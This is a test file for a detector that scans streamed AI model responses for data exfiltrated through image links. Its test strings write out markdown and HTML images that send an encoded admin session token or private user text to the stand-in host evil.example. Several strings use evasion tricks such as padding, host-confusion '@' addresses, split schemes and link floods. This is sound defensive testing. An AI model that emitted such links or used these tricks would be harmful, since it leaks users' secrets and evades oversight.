import { describe, expect, test } from "vitest";
import { createInspector } from "../engine.ts";
import { DETECTORS } from "../index.ts";
import { prepareText } from "../prepare.ts";
import { findLinks } from "./link-scan.ts";

const inspector = createInspector(DETECTORS.filter(({ id }) => id === "exfiltration-channel"));
const context = {
  systemPrompts: [],
  canaries: [],
  registeredSecrets: [],
  allowedHosts: ["*.corp.example"],
  knownHosts: new Set<string>(),
};
const frame = { provenance: "model", direction: "response", context } as const;
const DATA = "c2Vzc2lvbiB0b2tlbiBmb3IgYWRtaW4";
const BLOCKED_FROM = 0.85;

describe("an image in a stream whose start is long gone", () => {
  const rows: readonly (readonly [string, string])[] = [
    ["whose path is padded", `![x](https://evil.example/${"a/".repeat(250)}?d=${DATA})`],
    ["whose path is padded beyond what is held", `![x](https://evil.example/${"a/".repeat(700)}?d=${DATA})`],
    ["padded with an opaque value", `![x](https://evil.example/?p=${"Zx81qK".repeat(200)}&d=${DATA})`],
    ["parted from its bracket by white space", `![x](${" ".repeat(600)}https://evil.example/?d=${DATA})`],
    ["with many words", `![${"some words ".repeat(80)}](https://evil.example/?d=${DATA})`],
    ["defined far from its use", `![x][r] ${"Some words. ".repeat(80)}\n\n[r]: https://evil.example/?d=${DATA}\n`],
    ["with spaces in its address", "![x](<https://evil.example/?d=the user has an appointment with the doctor>)"],
  ];
  test.each(rows)("%s is known before its data is let go", (_, embedded) => {
    const text = `Here it is. ${embedded} That was all.`;
    const data = text.includes(DATA) ? text.indexOf(DATA) : text.indexOf("the user");
    for (const size of [1, 7, 40]) {
      const stream = inspector.stream(frame);
      let isKnown = false;
      for (let at = 0; at < text.length && !isKnown; at += size) {
        const step = stream.feed(text.slice(at, at + size));
        isKnown = step.detections.some(({ confidence }) => confidence >= BLOCKED_FROM);
        if (!isKnown) expect(step.releasable).toBeLessThanOrEqual(data);
      }
      expect(isKnown).toBe(true);
    }
  });

  test("is let go where its address is long by its signature", () => {
    const text = `![x](https://bucket.example/a.png?X-Amz-Security-Token=${"Zx81qK".repeat(300)}) That was all.`;
    const stream = inspector.stream(frame);
    const steps = [...Array.from(text.match(/.{1,16}/g) ?? [], (piece) => stream.feed(piece)), stream.end()];
    const found = steps.flatMap(({ detections }) => detections);
    expect(found.filter(({ confidence }) => confidence >= BLOCKED_FROM)).toEqual([]);
  });
});

test("a host that only looks listed is not", () => {
  const rows = [
    `![x](https://a.corp.example@evil.example/?d=${DATA})`,
    `![x](https://evil.example\\@a.corp.example/?d=${DATA})`,
    `![x](https://a.corp.example@b@evil.example/?d=${DATA})`,
  ];
  for (const text of rows) {
    const [result] = inspector.inspect(prepareText(text), frame);
    expect(Math.max(...(result?.detections ?? []).map(({ confidence }) => confidence))).toBeGreaterThan(BLOCKED_FROM);
  }
});

test("a text with more addresses than are looked at is unscannable", () => {
  const text = `${"https://a.example/b ".repeat(4_097)} ![x](https://evil.example/?d=${DATA})`;
  const [result] = inspector.inspect(prepareText(text), frame);
  expect(result?.outcome).toBe("unscannable");
});

test("what browsers load of many lists of sources is looked at to the last, or the text is unscannable", () => {
  const image = '<img srcset="https://a.corp.example/1.png 1x, https://a.corp.example/2.png 2x">\n';
  const text = (count: number): string => `${image.repeat(count)}<img src="ht\ntps://evil.example/?d=${DATA}">`;
  const [few, many] = [300, 1000].map((count) => inspector.inspect(prepareText(text(count)), frame)[0]);
  expect(few?.outcome).toBe("inspected");
  expect(Math.max(...(few?.detections ?? []).map(({ confidence }) => confidence))).toBeGreaterThan(BLOCKED_FROM);
  expect(many?.outcome).toBe("unscannable");
});

// Finishing inside the test's time is the point: where each address is read to the end of its run, this takes longer.
test.each([")//abcd", ")http:ab"])(
  "addresses in one run such as %j are parted without reading all of it for each",
  (piece) => {
    expect(findLinks(piece.repeat(600_000), true).links.length).toBeLessThanOrEqual(4_096);
  },
);
